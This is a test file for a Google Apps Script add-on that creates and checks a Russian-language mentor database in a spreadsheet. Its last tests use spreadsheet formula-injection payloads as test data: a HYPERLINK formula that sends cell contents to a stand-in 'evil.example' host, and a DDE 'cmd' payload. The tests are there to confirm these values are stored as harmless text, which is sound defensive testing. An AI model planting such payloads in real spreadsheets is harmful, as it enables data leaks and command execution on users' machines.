import { checkBase } from "../../src/app/checkBase";
import { initBase } from "../../src/app/initBase";
import { MARK_COLORS } from "../../src/domain/marks";
import { MENTORS, TABLES } from "../../src/domain/tables";
import { COLUMN_KEY } from "../../src/gas/sheets";
import {
  ANNA,
  gasWorld,
  makeActionTabs,
  rowsOf,
  snapshotDiff,
  stableSnapshot,
  typeRow,
} from "../support/gas";

type World = ReturnType<typeof gasWorld>;
let w: World;
beforeEach(() => {
  w = gasWorld();
});
afterEach(() => w.uninstall());

const mentorsSheet = () => w.ss.getSheetByName("Наставники")!;
const headerIndex = (sheet: GoogleAppsScript.Spreadsheet.Sheet, header: string) =>
  sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0]!.map(String).indexOf(header) + 1;

describe("«Создать / обновить базу» on the emulator", () => {
  test("creates every tab with headers, notes, dropdowns, formats, frozen and protected headers, keys", () => {
    w.run(() => initBase(w.ports()));
    // The spreadsheet's own first tab stays; the tabs a curator fills or reads follow in order. The tabs only an
    // action writes are made by it, in their place among these.
    const base = TABLES.filter((t) => t.madeBy === "base").map((t) => t.title.ru);
    expect(w.ss.getSheets().map((s) => s.getName())).toEqual(["Лист1", ...base]);
    makeActionTabs(w, ["kpi", "proposals"]);
    const inOrder = TABLES.filter((t) => t.madeBy === "base" || ["kpi", "proposals"].includes(t.key));
    expect(w.ss.getSheets().map((s) => s.getName())).toEqual(["Лист1", ...inOrder.map((t) => t.title.ru)]);
    const sheet = mentorsSheet();
    expect(sheet.getFrozenRows()).toBe(1);
    const headers = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
    expect(headers).toEqual(MENTORS.columns.map((c) => c.header.ru));
    expect(sheet.getRange(1, 2).getNote()).toContain("Фамилия, имя, отчество");
    expect(sheet.getRange(1, 2).getNote()).toContain("Обязательное поле.");
    expect(sheet.getRange(1, 2).getFontWeight()).toBe("bold");

    const category = sheet.getRange(2, headerIndex(sheet, "Категория")).getDataValidation()!;
    expect(category.getCriteriaType()).toBe(SpreadsheetApp.DataValidationCriteria.VALUE_IN_LIST);
    expect(category.getCriteriaValues()[0]).toContain("педагог");
    expect(category.getAllowInvalid()).toBe(true);
    const consent = sheet.getRange(500, headerIndex(sheet, "Согласие на обработку ПДн")).getDataValidation()!;
    expect(consent.getCriteriaType()).toBe(SpreadsheetApp.DataValidationCriteria.CHECKBOX);
    expect(sheet.getRange(2, headerIndex(sheet, "Телефон")).getNumberFormat()).toBe("@");

    const protections = sheet.getProtections(SpreadsheetApp.ProtectionType.RANGE);
    expect(protections.map((p) => p.getDescription()).sort()).toEqual([
      "mentor-base: ID",
      "mentor-base: заголовки",
    ]);
    expect(protections.every((p) => p.isWarningOnly())).toBe(true);
    const kpi = w.ss.getSheetByName("Показатели")!;
    expect(kpi.getProtections(SpreadsheetApp.ProtectionType.SHEET)[0]?.isWarningOnly()).toBe(true);

    const keys = sheet
      .getRange("B:B")
      .getDeveloperMetadata()
      .filter((m) => m.getKey() === COLUMN_KEY);
    expect(keys.map((m) => m.getValue())).toEqual(["fullName"]);
    const settings = rowsOf(w.ss, "Настройки");
    expect(settings.find((r) => r.Код === "program.year")?.Значение).toBe("2026/2027");
    expect(w.emu.ui.alerts.at(-1)?.prompt ?? JSON.stringify(w.emu.ui.alerts.at(-1))).toContain(
      "Созданы листы",
    );
  });

  test("running it again changes nothing in the spreadsheet", () => {
    w.run(() => initBase(w.ports()));
    typeRow(w.ss, "Наставники", ANNA);
    w.run(() => checkBase(w.ports()));
    const before = stableSnapshot(w.emu, w.ss);
    w.run(() => initBase(w.ports()));
    expect(snapshotDiff(stableSnapshot(w.emu, w.ss), before)).toEqual([]);
  });

  test("an update compares before it writes: a deleted dropdown, a changed format and a lost protection come back, nothing else is written", () => {
    w.run(() => initBase(w.ports()));
    makeActionTabs(w);
    typeRow(w.ss, "Наставники", ANNA);
    w.run(() => initBase(w.ports())); // gives Anna her id
    const clean = stableSnapshot(w.emu, w.ss);
    // Nothing differs: the update reads, and writes no dropdown, format, note or protection.
    w.emu.calls.reset();
    w.run(() => initBase(w.ports()));
    const writes = Object.entries(w.emu.calls.byMethod()).filter(([m]) =>
      /setDataValidations|setNumberFormat|setNotes|protect|setDescription|setColumnWidth/.test(m),
    );
    expect(writes).toEqual([]);
    expect(snapshotDiff(stableSnapshot(w.emu, w.ss), clean)).toEqual([]);
    // A curator deletes a dropdown on the first data row, changes the phone column's format, removes the id
    // protection of the meetings tab and widens a column.
    const sheet = mentorsSheet();
    const category = headerIndex(sheet, "Категория");
    sheet.getRange(2, category, 999, 1).setDataValidation(null);
    sheet.getRange(2, headerIndex(sheet, "Телефон"), 999, 1).setNumberFormat("0.00");
    const meetings = w.ss.getSheetByName("Встречи")!;
    for (const p of meetings.getProtections(SpreadsheetApp.ProtectionType.RANGE))
      if (p.getDescription() === "mentor-base: ID") p.remove();
    sheet.setColumnWidth(2, 333);
    w.run(() => initBase(w.ports()));
    // All is as it was, but the width the curator chose (protections compared in a stable order: a protection
    // made again is listed last).
    const sorted = (x: ReturnType<typeof stableSnapshot>) => {
      const { protections, ...rest } = x as { protections: unknown[] };
      return { ...rest, protections: protections.map((p) => JSON.stringify(p)).sort() };
    };
    const diff = snapshotDiff(sorted(stableSnapshot(w.emu, w.ss)), sorted(clean));
    expect(diff).toEqual([expect.stringContaining("333")]);
    expect(sheet.getColumnWidth(2)).toBe(333);
    expect(sheet.getRange(500, category).getDataValidation()).not.toBeNull();
  });

  test("a curator's own, renamed, moved and deleted columns: data stays, the missing column comes back at the end", () => {
    w.run(() => initBase(w.ports()));
    const sheet = mentorsSheet();
    const row = typeRow(w.ss, "Наставники", { ...ANNA, "Педагогический стаж, лет": "пять" });
    // The curator inserts their own column before «ФИО», renames «ФИО», deletes «Телефон».
    sheet.insertColumnBefore(2);
    sheet.getRange(1, 2).setValue("Кружок");
    sheet.getRange(row, 2).setValue("шахматы");
    sheet.getRange(1, headerIndex(sheet, "ФИО")).setValue("Ф. И. О.");
    sheet.deleteColumn(headerIndex(sheet, "Телефон"));
    const lastBefore = sheet.getLastColumn();

    w.run(() => initBase(w.ports()));
    expect(sheet.getRange(1, lastBefore + 1).getValue()).toBe("Телефон");
    expect(sheet.getRange(1, headerIndex(sheet, "Ф. И. О.")).getValue()).toBe("Ф. И. О.");
    expect(sheet.getRange(row, 2).getValue()).toBe("шахматы");

    const report = w.run(() => checkBase(w.ports()))!;
    const stage = sheet.getRange(row, headerIndex(sheet, "Педагогический стаж, лет"));
    expect(stage.getValue()).toBe("пять");
    expect(stage.getBackground()).toBe(MARK_COLORS.error);
    expect(sheet.getRange(row, 2).getNote()).toBe("");
    expect(sheet.getRange(row, 2).getBackground()).toBe("#ffffff");
    expect(report.problems.find((p) => p.table === "mentors")?.columnTitle).toBe("Педагогический стаж, лет");
  });

  test("after a check has remembered the layout, a column moved by the curator is still found", () => {
    w.run(() => initBase(w.ports()));
    const sheet = mentorsSheet();
    const row = typeRow(w.ss, "Наставники", { ...ANNA, "E-mail": "petrova@" });
    w.run(() => checkBase(w.ports()));
    w.emu.calls.reset();
    w.run(() => checkBase(w.ports()));
    // Nothing moved: the remembered layout is used, no column is looked up by its metadata.
    expect(w.emu.calls.byMethod()["DeveloperMetadataFinder.find"] ?? 0).toBe(0);
    // The curator moves «E-mail» to the far right: a new column, the values copied, the old one deleted.
    const from = headerIndex(sheet, "E-mail");
    const to = sheet.getLastColumn() + 1;
    sheet.insertColumnAfter(sheet.getLastColumn());
    sheet.getRange(1, to, row, 1).setValues(sheet.getRange(1, from, row, 1).getValues());
    sheet.deleteColumn(from);
    w.emu.calls.reset();
    const report = w.run(() => checkBase(w.ports()))!;
    expect(sheet.getRange(row, sheet.getLastColumn()).getBackground()).toBe(MARK_COLORS.error);
    expect(report.problems.find((p) => p.column === "email")?.cell).toBe(
      `${String.fromCharCode(64 + sheet.getLastColumn())}${row}`,
    );
    // The header row changed, so this check looked the columns up again.
    expect(w.emu.calls.byMethod()["DeveloperMetadataFinder.find"]).toBeGreaterThan(0);
  });

  test("a column the curator moves with Sheet.moveColumns and renames is still found by the check and the update, and not added twice", () => {
    w.run(() => initBase(w.ports()));
    const sheet = mentorsSheet();
    const row = typeRow(w.ss, "Наставники", { ...ANNA, "E-mail": "petrova@" });
    w.run(() => checkBase(w.ports())); // remembers the layout
    const columnsBefore = sheet.getLastColumn();
    // The curator drags «E-mail» to just after the id column and renames it: only its key can find it now.
    const from = headerIndex(sheet, "E-mail");
    sheet.moveColumns(sheet.getRange(1, from), 2);
    sheet.getRange(1, 2).setValue("Почта");
    expect(sheet.getRange(row, 2).getValue()).toBe("petrova@");

    const report = w.run(() => checkBase(w.ports()))!;
    const email = report.problems.find((p) => p.table === "mentors" && p.column === "email");
    expect(email?.cell).toBe(`B${row}`);
    expect(sheet.getRange(row, 2).getBackground()).toBe(MARK_COLORS.error);

    w.run(() => initBase(w.ports()));
    expect(sheet.getLastColumn()).toBe(columnsBefore);
    expect(headerIndex(sheet, "E-mail")).toBe(0);
    expect(sheet.getRange(1, 2).getValue()).toBe("Почта");
    expect(sheet.getRange(row, 2).getValue()).toBe("petrova@");
    const emailKeys = sheet
      .createDeveloperMetadataFinder()
      .withKey(COLUMN_KEY)
      .withValue("email")
      .find()
      .map((m) => m.getLocation().getColumn()?.getColumn());
    expect(emailKeys).toEqual([2]);
  });

  test("a tab whose keys were lost (pasted from another file) is recognised by its name and headers", () => {
    const sheet = w.ss.insertSheet("Наставники");
    const headers = MENTORS.columns.map((c) => c.header.ru);
    sheet.getRange(1, 1, 1, headers.length).setValues([headers]);
    sheet.getRange(2, 2, 1, 2).setValues([["Орлова Вера Ивановна", "педагог"]]);
    w.run(() => initBase(w.ports()));
    expect(w.ss.getSheets().filter((s) => s.getName().startsWith("Наставники"))).toHaveLength(1);
    expect(sheet.getLastColumn()).toBe(headers.length);
    expect(sheet.getRange(2, 1).getValue()).toBe("НС-0001");
    expect(sheet.getRange(2, 2).getValue()).toBe("Орлова Вера Ивановна");
  });
});

describe("text written by the add-on cannot become a formula", () => {
  test("strings starting with = + - @ are stored as text", () => {
    w.run(() => initBase(w.ports()));
    const p = w.ports();
    const table = p.sheets.findTables().mentors!;
    const attack = '=HYPERLINK("http://evil.example/?"&B2,"Подробнее")';
    p.sheets.appendRows(table, [["", attack, "+A1+B1", "-2+3+cmd|' /C calc'!A0", "@cmd"]]);
    p.sheets.writeColumns(table, [{ column: 6, firstRow: 2, values: ["=1+1"] }]);
    const sheet = mentorsSheet();
    expect(sheet.getRange(2, 2, 1, 4).getValues()[0]).toEqual([
      attack,
      "+A1+B1",
      "-2+3+cmd|' /C calc'!A0",
      "@cmd",
    ]);
    expect(sheet.getRange(2, 6).getValue()).toBe("=1+1");
    expect(
      sheet
        .getRange(2, 1, 1, 6)
        .getFormulas()[0]!
        .every((f) => f === ""),
    ).toBe(true);
  });
});

describe("what a person typed between the add-on's writes stays as typed", () => {
  test("«Проверить базу» gives ids around a formula typed in the id column and leaves the formula alone", () => {
    w.run(() => initBase(w.ports()));
    for (const name of ["Петрова Анна Сергеевна", "Иванов Пётр Ильич", "Сидорова Ольга Петровна"])
      typeRow(w.ss, "Наставники", { ФИО: name });
    const sheet = mentorsSheet();
    const id = headerIndex(sheet, "ID");
    const typed = sheet.getRange(3, id);
    typed.setFormula('=HYPERLINK("http://evil.example","нажми")');
    const before = { value: typed.getValue(), formula: typed.getFormula() };
    w.run(() => checkBase(w.ports()));
    expect(sheet.getRange(2, id).getValue()).toMatch(/^НС-\d{4}$/);
    expect(sheet.getRange(4, id).getValue()).toMatch(/^НС-\d{4}$/);
    // Row 3 holds the person's own formula: not written back as read, not turned into text.
    expect({ value: typed.getValue(), formula: typed.getFormula() }).toEqual(before);
  });
});
